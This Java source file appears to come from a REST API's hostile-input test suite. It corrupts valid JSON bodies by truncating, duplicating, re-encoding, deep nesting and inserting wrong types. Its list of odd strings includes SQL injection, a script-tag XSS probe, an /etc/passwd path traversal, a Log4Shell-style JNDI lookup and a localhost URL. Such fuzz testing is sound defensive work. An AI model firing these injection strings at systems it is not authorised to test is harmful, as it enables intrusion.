package io.agencyos.adapters.in.rest.hostile;

import io.agencyos.adapters.in.http.json.Json;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.SplittableRandom;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.node.ArrayNode;
import tools.jackson.databind.node.JsonNodeFactory;
import tools.jackson.databind.node.ObjectNode;

/** Makes good bodies bad: wrong types, sizes, depths, encodings, members too many and too few. */
final class Spoiler {

    private static final JsonNodeFactory NODES = JsonNodeFactory.instance;
    private static final int DEEP = 40;
    private static final int LONG = 60_000;
    private static final int MANY = 1_500;

    static final List<String> ODD_TEXTS = List.of(
            "",
            " ",
            "a\u0000b",
            "\ud800",
            "\u202eabc",
            "%_\\'\";--",
            "' or '1'='1",
            "<script>alert(1)</script>",
            "../../etc/passwd",
            "${jndi:ldap://x.example/a}",
            "\u0130\u0131\u00df\ufb01",
            "\ud83d\udc69\u200d\ud83d\udcbb".repeat(60),
            "0",
            "-1",
            "NaN",
            "1e400",
            "null",
            "true",
            "2026-02-30",
            "9999-12-31T23:59:59.999Z",
            "+999999999-12-31T23:59:59Z",
            "0000-01-01T00:00:00Z",
            "-0001-06-01T00:00:00+18:00",
            "24:00",
            "Mars/Olympus",
            "a@b",
            "a@" + "b".repeat(300) + ".example",
            "http://127.0.0.1:5432/",
            "xn--a",
            "019baaaa-0000-7000-8000-00000000000a");

    private final SplittableRandom random;

    Spoiler(SplittableRandom random) {
        this.random = random;
    }

    /** The body, spoilt in one to three places, as bytes. */
    byte[] spoilt(JsonNode good) {
        JsonNode tree = good.deepCopy();
        int wounds = 1 + random.nextInt(3);
        for (int i = 0; i < wounds; i++) {
            tree = wounded(tree);
        }
        String text = tree.toString();
        return switch (random.nextInt(16)) {
            case 0 -> text.substring(0, random.nextInt(text.length() + 1)).getBytes(StandardCharsets.UTF_8);
            case 1 -> (text + text).getBytes(StandardCharsets.UTF_8);
            case 2 -> text.getBytes(StandardCharsets.UTF_16);
            case 3 -> text.replaceFirst("\\{", "{\"name\":1,\"name\":2,").getBytes(StandardCharsets.UTF_8);
            case 4 -> bytes();
            default -> text.getBytes(StandardCharsets.UTF_8);
        };
    }

    private byte[] bytes() {
        byte[] any = new byte[random.nextInt(200)];
        random.nextBytes(any);
        return any;
    }

    private JsonNode wounded(JsonNode tree) {
        List<ObjectNode> objects = new ArrayList<>();
        collect(tree, objects);
        if (objects.isEmpty() || random.nextInt(20) == 0) {
            return odd();
        }
        ObjectNode at = objects.get(random.nextInt(objects.size()));
        List<String> names = List.copyOf(at.propertyNames());
        String name = names.isEmpty() || random.nextInt(10) == 0 ? "no_such_member" : pick(names);
        if (random.nextInt(6) == 0) {
            at.remove(name);
        } else {
            at.set(name, odd());
        }
        return tree;
    }

    private static void collect(JsonNode node, List<ObjectNode> objects) {
        if (node instanceof ObjectNode object) {
            objects.add(object);
        }
        node.forEach(child -> collect(child, objects));
    }

    private JsonNode odd() {
        return switch (random.nextInt(12)) {
            case 0 -> NODES.nullNode();
            case 1 -> NODES.booleanNode(random.nextBoolean());
            case 2 -> NODES.numberNode(random.nextLong());
            case 3 -> NODES.numberNode(new BigDecimal("1e" + (random.nextInt(800) - 400)));
            case 4 -> NODES.numberNode(random.nextInt(7) - 3);
            case 5 -> NODES.stringNode("x".repeat(random.nextInt(LONG)));
            case 6 -> many();
            case 7 -> deep();
            case 8 -> Json.MAPPER.createObjectNode().put("a", 1);
            default -> NODES.stringNode(pick(ODD_TEXTS));
        };
    }

    private ArrayNode many() {
        ArrayNode array = NODES.arrayNode();
        JsonNode entry = random.nextBoolean() ? NODES.stringNode(pick(ODD_TEXTS)) : NODES.numberNode(7);
        int size = random.nextInt(MANY);
        for (int i = 0; i < size; i++) {
            array.add(entry);
        }
        return array;
    }

    private JsonNode deep() {
        JsonNode node = NODES.numberNode(1);
        for (int i = 0; i < DEEP; i++) {
            node = random.nextBoolean()
                    ? NODES.arrayNode().add(node)
                    : NODES.objectNode().set("d", node);
        }
        return node;
    }

    <T> T pick(List<T> all) {
        return all.get(random.nextInt(all.size()));
    }
}
